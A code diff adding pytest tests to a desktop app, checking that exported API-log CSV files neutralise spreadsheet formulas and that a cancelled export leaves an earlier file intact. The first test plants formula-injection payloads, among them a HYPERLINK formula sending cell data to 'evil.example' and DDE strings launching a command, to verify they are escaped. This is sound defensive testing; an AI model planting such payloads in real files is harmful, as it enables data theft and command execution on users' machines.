@@ -5,12 +5,14 @@ from __future__ import annotations
 
 import csv
 import socket
+import threading
 
 import httpx
 import pytest
 from desktop_helpers import click_button, column_texts, select_row, settle, visible_message_box
 
-from api.services import keys
+from api.services import keys, log_stats
+from tempclock_desktop.panels.api_logs import export_csv
 from tempclock_desktop.server import RUNNING, STOPPED
 
 
@@ -202,3 +204,41 @@ def test_a_new_port_is_saved_and_the_api_restarts_on_it(qtbot, start_desktop, ap
     qtbot.waitUntil(lambda: server.state == RUNNING and server.port == new_port, timeout=15_000)
     assert desktop.session.settings.port == new_port
     assert api_client(server.url).get("/api/v1/workers").status_code == 401
+
+
+def test_exported_logs_never_carry_a_live_spreadsheet_formula(qtbot, start_desktop, api_client,
+                                                              account, tmp_path):
+    key = keys.issue_key(account.id, "Bullhorn ATS").plaintext
+    desktop = start_desktop(serve=True)
+    client = api_client(desktop.server.url)
+    planted = ['=HYPERLINK("https://evil.example/?"&A1,"Open")', "+cmd|' /C calc'!A0",
+               "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+    for n, agent in enumerate(planted):
+        # No valid key is needed to plant one: a made-up key is logged too.
+        bearer = key if n % 2 else f"tc_live_{n:040x}"
+        client.get("/api/v1/workers?=1+1&@x", headers={"Authorization": f"Bearer {bearer}", "User-Agent": agent})
+    panel = desktop.window.show_panel("api_logs")
+    qtbot.waitUntil(lambda: panel.model.rowCount() == len(planted), timeout=10_000)
+    target = tmp_path / "logs.csv"
+    with qtbot.waitSignal(panel.exported, timeout=10_000):
+        panel.export(str(target))
+    with target.open(encoding="utf-8", newline="") as handle:
+        rows = list(csv.DictReader(handle))
+    assert sorted(row["user_agent"] for row in rows) == sorted("'" + a for a in planted)
+    assert {row["query"][:1] for row in rows} == {"'"}
+    live = [cell for row in rows for cell in row.values()
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert live == []
+    visible_message_box(qtbot, "4 requests written").accept()
+
+
+def test_a_cancelled_log_export_leaves_the_earlier_file_as_it_was(account, tmp_path):
+    target = tmp_path / "exports" / "logs.csv"
+    target.parent.mkdir()
+    target.write_text("last month's export\n", encoding="utf-8")
+    cancelled = threading.Event()
+    cancelled.set()
+    written = export_csv(target, account.id, log_stats.LogFilter(), lambda *_: None, cancelled)
+    assert written == 0
+    assert target.read_text(encoding="utf-8") == "last month's export\n"
+    assert [p.name for p in target.parent.iterdir()] == ["logs.csv"]
